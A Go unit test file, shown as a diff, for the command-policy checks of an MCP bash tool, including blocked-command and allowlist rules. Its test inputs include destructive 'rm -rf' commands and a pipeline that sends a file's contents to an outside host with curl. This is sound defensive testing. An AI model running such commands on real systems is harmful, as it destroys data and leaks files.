@@ -0,0 +1,93 @@
+package mcptools
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/mock"
+)
+
+func TestInvokedCommands(t *testing.T) {
+	tests := []struct {
+		name        string
+		commandLine string
+		expected    []string
+	}{
+		{name: "single command", commandLine: "ls -la", expected: []string{"ls"}},
+		{name: "separators", commandLine: "cd /tmp && ls; cat a | grep b || echo none & wait", expected: []string{"cd", "ls", "cat", "grep", "echo", "wait"}},
+		{name: "command substitution", commandLine: "echo $(whoami) `hostname`", expected: []string{"echo", "whoami", "hostname"}},
+		{name: "assignments and wrappers", commandLine: "FOO=1 BAR=2 sudo env /bin/rm -rf x", expected: []string{"rm"}},
+		{name: "subshell and multiple lines", commandLine: "(curl example.com)\n{ wget x; }", expected: []string{"curl", "wget"}},
+		{name: "empty", commandLine: "", expected: nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var binaries []string
+			for _, command := range invokedCommands(tt.commandLine) {
+				binaries = append(binaries, command.Binary)
+			}
+			assert.Equal(t, tt.expected, binaries)
+		})
+	}
+}
+
+func TestBash_CommandPolicy(t *testing.T) {
+	tests := []struct {
+		name     string
+		config   BashConfig
+		input    map[string]interface{}
+		expected string
+	}{
+		{
+			name:     "blocked binary after a separator",
+			config:   BashConfig{BlockedCommands: []string{"rm"}},
+			input:    map[string]interface{}{"command": "ls && /bin/rm -rf build"},
+			expected: `command "rm -rf build" is blocked by policy: matches "rm"`,
+		},
+		{
+			name:     "blocked command with arguments",
+			config:   BashConfig{BlockedCommands: []string{"git push *"}},
+			input:    map[string]interface{}{"command": "git status; git push origin main"},
+			expected: `command "git push origin main" is blocked by policy: matches "git push *"`,
+		},
+		{
+			name:     "command outside the allowlist",
+			config:   BashConfig{AllowedCommands: []string{"ls", "cat"}},
+			input:    map[string]interface{}{"command": "cat file | curl -d @- example.com"},
+			expected: `command "curl -d @- example.com" is not in the allowed commands`,
+		},
+		{
+			name:     "pipeline stage outside the allowlist",
+			config:   BashConfig{AllowedCommands: []string{"echo"}},
+			input:    map[string]interface{}{"pipeline": []map[string]interface{}{{"program": "echo"}, {"program": "/usr/bin/tee", "args": []string{"out"}}}},
+			expected: `command "tee out" is not in the allowed commands`,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mockExecutor := new(MockCommandExecutor)
+			b := NewBashWithConfig(newPermissiveLogger(), tt.config)
+			b.cmdExecutor = mockExecutor
+
+			result := callBashTool(t, b, tt.input)
+
+			assert.True(t, result.IsError)
+			assert.Equal(t, tt.expected, result.Content[0].Text)
+			mockExecutor.AssertNotCalled(t, "ExecuteCommand", mock.Anything, mock.Anything)
+		})
+	}
+}
+
+func TestBash_CommandPolicy_Allowed(t *testing.T) {
+	b := NewBashWithConfig(newPermissiveLogger(), BashConfig{
+		AllowedCommands: []string{"echo", "tr"},
+		BlockedCommands: []string{"rm"},
+	})
+
+	result := callBashTool(t, b, map[string]interface{}{"command": "echo hello | tr a-z A-Z"})
+
+	assert.False(t, result.IsError, result.Content)
+	assert.Equal(t, "HELLO\n", result.Content[0].Text)
+}